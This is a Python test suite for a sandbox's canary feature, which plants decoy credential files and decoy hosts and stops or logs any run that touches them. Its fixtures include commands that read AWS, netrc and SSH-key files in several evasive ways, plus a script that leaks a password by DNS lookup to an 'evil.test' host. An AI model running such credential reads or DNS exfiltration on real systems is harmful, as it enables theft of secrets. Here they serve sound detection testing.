"""Canaries: decoys inside that no legitimate task touches; the first use stops the sandbox."""
import json
import os

from harness.boxes import box, listed
from harness.world import World

HELD = """
import os, time
f = open(os.path.expanduser("%s"))
f.readline()
time.sleep(0.5)
open("went", "w").write("on")
time.sleep(30)
"""


def rules(t, **canary):
    d = t.fresh_dir("policy")
    more = canary.pop("more", {})
    t.write(d, {"ward.json": json.dumps({"version": 1, "canary": canary, **more})})
    return os.path.join(d, "ward.json")


def touches(t, run=None, cwd=None):
    r = t.ward("audit", "show", *([run] if run else []), "--json", cwd=cwd)
    t.equal(r.rc, 0, r.err)
    return [e for e in map(json.loads, r.out.splitlines()) if e["kind"] == "canary.touch"]


def runtime(t):
    """Directories of canary files that are there now."""
    d = t.environment()["WARD_RUNTIME_DIR"]
    with t.root():
        return [n for n in os.listdir(d) if n.startswith("canary-")] if os.path.isdir(d) else []


def test_file_freezes(t):
    """A canary file is opened: the sandbox stands still, and the alert names who has it open."""
    ws = t.workspace({"held.py": HELD % "~/.aws/credentials"})
    one = box(t, "-p", rules(t, files=["~/.aws/credentials"]), "--", "/usr/bin/python3", "held.py",
              cwd=ws)
    t.wait_until(lambda: listed(t)[one]["state"] == "paused", 20, "it is not frozen")
    touched = touches(t, one)
    t.equal([(e["object"], e["why"], e["action"], e["change"]) for e in touched],
            [("/home/agent/.aws/credentials", "it was opened", "deny", "freeze")], "the alert")
    t.check("python3" in touched[0]["chain"][0], f"who: {touched[0]}")
    t.equal(t.read(ws, "went"), None, "nothing goes on")
    t.equal(len(runtime(t)), 1, "the files of one run")
    t.equal(t.ward("kill", one).rc, 0, "kill")
    t.wait_until(lambda: not runtime(t), 20, "the files stay")


def test_content(t):
    """A decoy reads like what it stands for, differs from run to run, and cannot be changed."""
    ws = t.workspace()
    file = rules(t, files=["~/.aws/credentials", "~/.netrc", "/srv/deploy/id_ed25519", "~/notes"],
                 do="log")
    show = ("cat ~/.aws/credentials ~/.netrc /srv/deploy/id_ed25519 ~/notes; "
            "echo x >> ~/.netrc; rm -f ~/.netrc; test -s ~/.netrc && echo there")
    seen = [t.ward("run", "-p", file, "--", "sh", "-c", show, cwd=ws) for _ in range(2)]
    for r in seen:
        t.equal(r.rc, 0, r.err)
        for part in ("aws_access_key_id = AKIA", "machine api.github.com login",
                     "BEGIN OPENSSH PRIVATE KEY", "password = ", "\nthere\n"):
            t.contains(r.out, part)
    lines = [set(r.out.splitlines()) for r in seen]
    t.check(not any("AKIA" in line or "token = " in line for line in lines[0] & lines[1]),
            "every run has values of its own")
    t.equal(sorted({e["object"] for e in touches(t, cwd=ws)}),
            ["/home/agent/.aws/credentials", "/home/agent/.netrc", "/home/agent/notes",
             "/srv/deploy/id_ed25519"], "each was reported")
    t.equal(runtime(t), [], "nothing is left")


def test_look_is_not_use(t):
    """To list the directory is not to open the file; each other way to open it is."""
    ws = t.workspace()
    file = rules(t, files=["~/.aws/credentials"], do="kill")
    r = t.ward("run", "-p", file, "--", "sh", "-c", "ls -l ~/.aws/credentials; stat ~/.aws/*",
               cwd=ws)
    t.equal((r.rc, touches(t, cwd=ws)), (0, []), r.err)
    for way in ("cat ~/.aws/credentials", "cd ~/.aws; cat cred*",
                "ln -s ~/.aws/credentials l; wc l",
                "cat /proc/self/root/home/agent/.aws/credentials", "grep -r key ~",
                "sh -c '. ~/.aws/credentials'"):
        r = t.ward("run", "-p", file, "--", "sh", "-c", f"({way}) > /dev/null; sleep 30", cwd=ws)
        t.equal(r.rc, 137, f"{way}: {r.err}")
        t.contains(r.err, "canary /home/agent/.aws/credentials ended the run: it was opened")


def test_host(t):
    """A canary host is looked up, without any network."""
    ws = t.workspace()
    look = "import socket, time\ntry: socket.getaddrinfo('%s', 1)\nexcept OSError: pass\n"
    file = rules(t, hosts=["vault.corp.test", "*.secret.test"], do="kill")
    for name, rc in (("vault.corp.test", 137), ("a.secret.test", 137), ("corp.test", 0),
                     ("secret.test", 0)):
        r = t.ward("run", "-p", file, "--", "/usr/bin/python3", "-c",
                   look % name + ("time.sleep(30)" if rc else ""), cwd=ws)
        t.equal(r.rc, rc, f"{name}: {r.err}")
    file = rules(t, hosts=["vault.corp.test"], do="log")
    r = t.ward("run", "-p", file, "--", "/usr/bin/python3", "-c", look % "Vault.Corp.test", cwd=ws)
    t.equal([(e["object"], e["action"]) for e in touches(t, cwd=ws)], [("vault.corp.test", "log")])


def test_host_behind_gateway(t):
    """The same with a network, for hosts that the rules allow, too."""
    world = World(t)
    ws = t.workspace()
    file = rules(t, hosts=["evil.test"], do="kill",
                 more={"network": {"mode": "restricted", "egress_allowlist": ["*.test:5432"]}})
    talk = ("import socket, time; s = socket.create_connection(('%s', 5432), 20); s.sendall(b'hi');"
            "s.recv(2); time.sleep(%d)")
    r = world.ward("run", "-p", file, "--", "/usr/bin/python3", "-c", talk % ("db.test", 0), cwd=ws)
    t.equal(r.rc, 0, r.err)
    r = world.ward("run", "-p", file, "--", "/usr/bin/python3", "-c", talk % ("evil.test", 30),
                   cwd=ws)
    t.equal(r.rc, 137, r.err)


def test_value_leaves(t):
    """The value of a canary in a name that is looked up, or in the words of a command."""
    ws = t.workspace({"leak.py": """
import re, socket
token = re.search("password = (.*)", open("/srv/vault").read()).group(1)
try: socket.getaddrinfo(token + ".evil.test", 1)
except OSError: pass
"""})
    file = rules(t, files=["/srv/vault"], do="log")
    r = t.ward("run", "-p", file, "--", "/usr/bin/python3", "leak.py", cwd=ws)
    t.equal(r.rc, 0, r.err)
    whys = [e["why"] for e in touches(t, cwd=ws)]
    t.equal((len(whys), whys[0]), (2, "it was opened"), f"{whys}")
    t.contains(whys[1], "its value was used: net.dns ")
    file = rules(t, files=["/srv/vault"], do="log", more={"audit": {"level": "exec"}})
    r = t.ward("run", "-p", file, "--", "sh", "-c",
               "/bin/true $(sed -n 's/password = //p' /srv/vault)", cwd=ws)
    t.check(any("its value was used: exec.start /bin/true" in e["why"]
                for e in touches(t, cwd=ws)), f"{touches(t, cwd=ws)}")


def test_refused(t):
    """Where a file cannot be put, and what is none, is one clear error; nothing is started."""
    ws = t.workspace()
    for canary, said in (({"files": [os.path.join(ws, "x")]}, "canary.files: "),
                         ({"files": ["/etc/passwd"]}, "shows the host's own files"),
                         ({"files": ["relative"]}, "~/PATH or an absolute path"),
                         ({"files": ["~/../x"]}, "~/PATH or an absolute path"),
                         ({"hosts": ["a b"]}, "canary.hosts"),
                         ({"do": "shout"}, "freeze")):
        r = t.ward("run", "-p", rules(t, **canary), "--", "touch", "began", cwd=ws)
        t.check(r.rc == 125 and said in r.err, f"{canary}: {r.rc} {r.err}")
    t.equal((t.read(ws, "began"), runtime(t)), (None, []), "nothing was started")
